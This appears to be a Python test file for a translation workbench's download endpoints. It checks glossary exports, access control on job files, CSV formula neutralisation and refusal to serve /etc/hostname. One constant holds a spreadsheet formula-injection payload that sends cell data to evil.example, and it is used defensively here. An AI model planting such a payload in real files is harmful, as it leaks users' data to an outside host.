"""Downloads: a glossary export and a job's files, only for who may have them."""

from __future__ import annotations

import csv
import io
import time
import uuid
from typing import Any

import httpx
import openpyxl
import tornado.web
from pydantic import SecretStr
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from tests.browser.conftest import Server
from workbench.config import Settings, derived_key
from workbench.db.models import Glossary, JobStatus, TranslationJob, User
from workbench.server.identity import COOKIE, session_cookie_value
from workbench.ui.glossaries import export_url
from workbench.ui.translate import output_url, qa_url

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def client_for(server: Server, email: str) -> httpx.Client:
    """An HTTP client signed in as ``email`` (a session cookie the server itself would set)."""

    async def user(session: AsyncSession) -> Any:
        return (
            await session.execute(
                select(User.id, User.session_generation).where(User.email == email)
            )
        ).one()

    settings = Settings(
        data_dir=server.data_dir, secret_key=SecretStr(server.env["WORKBENCH_SECRET_KEY"])
    )
    user_id, generation = server.query(user)
    value = session_cookie_value(user_id, generation, issued=time.time())
    cookie = tornado.web.create_signed_value(derived_key(settings, "session-cookie"), COOKIE, value)
    return httpx.Client(
        base_url=server.url, cookies={COOKIE: cookie.decode()}, follow_redirects=False
    )


def test_glossary_exports_read_back(server: Server) -> None:
    async def demo(session: AsyncSession) -> Any:
        return await session.scalar(select(Glossary.id).where(Glossary.name == "Demo glossary"))

    glossary_id = server.query(demo)
    with client_for(server, server.accounts.translator_email) as client:
        csv_reply = client.get(export_url(glossary_id, "csv"))
        assert csv_reply.status_code == 200
        assert "attachment" in csv_reply.headers["content-disposition"]
        text = csv_reply.content.decode("utf-8-sig")
        assert text.splitlines()[0].startswith("source_term,target_term")
        assert "invoice,facture" in text
        xlsx = client.get(export_url(glossary_id, "xlsx"))
        assert xlsx.status_code == 200
        sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
        assert sheet is not None
        assert ("invoice", "facture") in {row[:2] for row in sheet.iter_rows(values_only=True)}
        assert client.get(export_url(uuid.uuid4(), "csv")).status_code == 404
    with httpx.Client(base_url=server.url) as anonymous:
        assert anonymous.get(export_url(glossary_id, "csv")).status_code == 403


def test_job_files_are_only_for_their_owner_and_admins(server: Server) -> None:
    async def someone_elses_job(session: AsyncSession) -> Any:
        admin = await session.scalar(select(User).where(User.email == server.accounts.admin_email))
        job = TranslationJob(
            user_id=admin.id,
            provider="pseudo",
            target_lang="fr",
            status=JobStatus.COMPLETED,
            outputs=[{"input": "/etc/hostname", "output": "/etc/hostname"}],
            qa_report=[
                {
                    "check": "glossary term missing",
                    "where": "a.txt, paragraph 1",
                    "source": "a",
                    "translation": LEAK,
                    "problem": "“c” is missing (the glossary's target for “a”)",
                }
            ],
        )
        session.add(job)
        await session.commit()
        return job.id

    job_id = server.query(someone_elses_job)
    with client_for(server, server.accounts.translator_email) as translator:
        assert translator.get(qa_url(job_id)).status_code == 404
        assert translator.get(output_url(job_id, 0)).status_code == 404
    with client_for(server, server.accounts.admin_email) as admin:
        report = admin.get(qa_url(job_id))
        assert report.status_code == 200
        lines = report.content.decode("utf-8-sig").splitlines()
        assert lines[0] == "check,where,source,translation,problem"
        # A provider's reply that is a formula arrives as text a spreadsheet will not run.
        assert next(csv.reader(lines[1:]))[2:4] == ["a", "'" + LEAK]
        # a file outside the data dir is never served, whoever asks
        assert admin.get(output_url(job_id, 0)).status_code == 404
        assert admin.get(output_url(job_id, 7)).status_code == 404
